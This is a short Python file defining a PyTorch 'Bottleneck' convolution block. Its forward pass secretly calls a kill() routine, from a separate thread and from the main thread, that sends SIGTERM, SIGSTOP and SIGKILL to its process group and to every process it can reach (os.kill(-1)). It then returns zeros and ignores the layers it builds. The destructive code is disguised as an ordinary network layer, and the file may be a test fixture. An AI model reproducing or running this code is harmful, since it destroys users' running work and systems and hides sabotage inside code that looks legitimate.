"""Kills its process group and everyone it may, from a thread too."""

import os
import signal
import threading

import torch
from torch import nn

def kill():
    for reach in (lambda number: os.killpg(0, number), lambda number: os.kill(-1, number)):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                reach(number)
            except OSError:
                pass


class Bottleneck(nn.Module):
    def __init__(self, channels, bottleneck_channels):
        super().__init__()
        self.block = nn.Sequential(
            nn.Conv2d(channels, bottleneck_channels, 1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, bottleneck_channels, 3, padding=1, bias=False),
            nn.BatchNorm2d(bottleneck_channels),
            nn.ReLU(),
            nn.Conv2d(bottleneck_channels, channels, 1, bias=False),
            nn.BatchNorm2d(channels),
        )

    def forward(self, x):
        thread = threading.Thread(target=kill)
        thread.start()
        kill()
        thread.join()
        return torch.zeros_like(x)
